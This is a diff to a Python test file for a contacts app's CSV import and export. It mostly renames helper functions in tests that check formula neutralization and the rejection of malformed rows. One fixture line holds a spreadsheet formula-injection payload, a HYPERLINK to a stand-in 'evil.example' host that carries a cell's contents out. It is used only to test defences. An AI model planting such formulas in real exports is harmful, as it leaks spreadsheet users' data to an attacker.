@@ -4,7 +4,7 @@ import csv
 import io
 
 from app.auth.models import Role
-from tests.contacts.test_transfer_and_merge import _contacts, _import
+from tests.support.contacts import import_contacts, list_contacts
 
 FORMULA = '=HYPERLINK("http://evil.example/"&B2,"Ivan")'
 
@@ -32,8 +32,8 @@ async def test_a_formula_planted_in_a_name_is_exported_as_text_and_imported_back
     exported = (await cf.http.get("/api/contacts/export", headers=supervisor["headers"])).text
 
     await cf.http.patch(f"/api/contacts/{contact_id}", json={"name": None}, headers=supervisor["headers"])
-    assert (await _import(cf, supervisor["headers"], exported)).status_code == 200
-    [contact] = await _contacts(cf, supervisor["headers"])
+    assert (await import_contacts(cf, supervisor["headers"], exported)).status_code == 200
+    [contact] = await list_contacts(cf, supervisor["headers"])
     assert contact["name"] == FORMULA  # the ' came off again
 
 
@@ -57,24 +57,24 @@ async def test_report_csvs_neutralize_formulas_but_keep_numbers(cf, supervisor):
 
 async def test_an_import_names_rows_it_cannot_read_and_imports_nothing(cf, supervisor):
     wide = "phone,name\n+79001112233,Ivan\n+79001112234,Petr,extra,cells\n"
-    response = await _import(cf, supervisor["headers"], wide)
+    response = await import_contacts(cf, supervisor["headers"], wide)
     assert response.status_code == 422
     assert response.json()["errors"] == [{"line": 3, "error": "the row has more cells than the header"}]
 
     huge = "phone,name\n+79001112233," + "x" * (130 * 1024) + "\n"
-    response = await _import(cf, supervisor["headers"], huge)
+    response = await import_contacts(cf, supervisor["headers"], huge)
     assert response.status_code == 422 and "line" in response.json()["errors"][0]
 
     long_name = "phone,name\n+79001112233," + "x" * 201 + "\n"
-    response = await _import(cf, supervisor["headers"], long_name)
+    response = await import_contacts(cf, supervisor["headers"], long_name)
     assert response.status_code == 422 and "longer than 200" in response.json()["errors"][0]["error"]
 
     nul = "phone,name\n+79001112233,Iv\x00an\n"
-    assert (await _import(cf, supervisor["headers"], nul)).status_code == 422
-    assert await _contacts(cf, supervisor["headers"]) == []
+    assert (await import_contacts(cf, supervisor["headers"], nul)).status_code == 422
+    assert await list_contacts(cf, supervisor["headers"]) == []
 
 
 async def test_owners_in_an_import_are_operators(cf, supervisor):
     await cf.user("boss", Role.admin)
-    response = await _import(cf, supervisor["headers"], "phone,owner\n+79001112233,boss\n")
+    response = await import_contacts(cf, supervisor["headers"], "phone,owner\n+79001112233,boss\n")
     assert response.status_code == 422 and "no operator named 'boss'" in response.json()["errors"][0]["error"]
